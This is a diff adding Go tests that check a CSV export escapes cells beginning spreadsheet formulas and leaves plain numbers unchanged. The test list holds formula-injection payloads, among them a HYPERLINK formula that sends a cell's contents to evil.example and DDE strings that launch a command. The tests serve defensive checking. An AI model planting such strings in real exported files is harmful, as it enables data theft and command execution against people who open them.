@@ -192,3 +192,55 @@ func TestCSVHoldsTheAnalysedFigures(t *testing.T) {
 		sameFigures(t, got, want)
 	})
 }
+
+// Names a spreadsheet would run as formulas, as OWASP lists their
+// starts, and what each must read as once written.
+var formulaNames = []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `+cmd|'/C calc'!A0`, `-2+3+cmd|'/C calc'!A0`, `@SUM(1+1)*cmd|'/C calc'!A0`, "\t=1+1", "\r=1+1"}
+
+// TestCSVCellsAreNeverFormulas: a cell that starts a formula is written
+// after a "'", which a spreadsheet shows as text; a number, negative or
+// in a language's digits, and "-" (no figure) are written as they are.
+func TestCSVCellsAreNeverFormulas(t *testing.T) {
+	for _, name := range formulaNames {
+		if got := csvCell(name); got != "'"+name {
+			t.Errorf("%q is written %q, want it after a '", name, got)
+		}
+	}
+	for _, n := range []string{"-12.5", "+3e-06", "-1.5e+300", "-12.3%", "+17.3%", "−2,5 %", "-", "-Inf", "+Inf", "NaN", "-२६,३६,५१६", "1,234.5", "io_uring", ""} {
+		if got := csvCell(n); got != n {
+			t.Errorf("%q is written %q, want it as it is", n, got)
+		}
+	}
+	for _, n := range []string{"-E1", "-e", "+", "=1", "-1+A1", "-1 (x)"} {
+		if got := csvCell(n); got != "'"+n {
+			t.Errorf("%q is written %q, want it after a '", n, got)
+		}
+	}
+}
+
+// TestTableCSVEscapesFormulaNames: systems named as formulas reach a
+// table's CSV after a "'", and their figures, negative ones too, as
+// numbers; the md format's CSV is the same file.
+func TestTableCSVEscapesFormulaNames(t *testing.T) {
+	tb := &Table{Name: "table-1", Title: "Changes", Groups: []string{"-4K"}, Systems: formulaNames,
+		Rows: []TableRow{{Label: "Change", Unit: "%", Quantity: "iops_change_pct"}}}
+	for i := range formulaNames {
+		v := -12.5 * float64(i+1)
+		tb.Rows[0].Cells = append(tb.Rows[0].Cells, TableCell{Text: strconv.FormatFloat(v, 'f', 1, 64) + "%", Value: v, HasValue: true})
+	}
+	var b strings.Builder
+	if err := writeTableCSV(&b, tb); err != nil {
+		t.Fatal(err)
+	}
+	lines, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, name := range formulaNames {
+		line := lines[i+1]
+		want := []string{"'-4K", "'" + name, strconv.FormatFloat(-12.5*float64(i+1), 'f', -1, 64), strconv.FormatFloat(-12.5*float64(i+1), 'f', 1, 64) + "%"}
+		if !slices.Equal(line, want) {
+			t.Errorf("line %d: %q, want %q", i+2, line, want)
+		}
+	}
+}
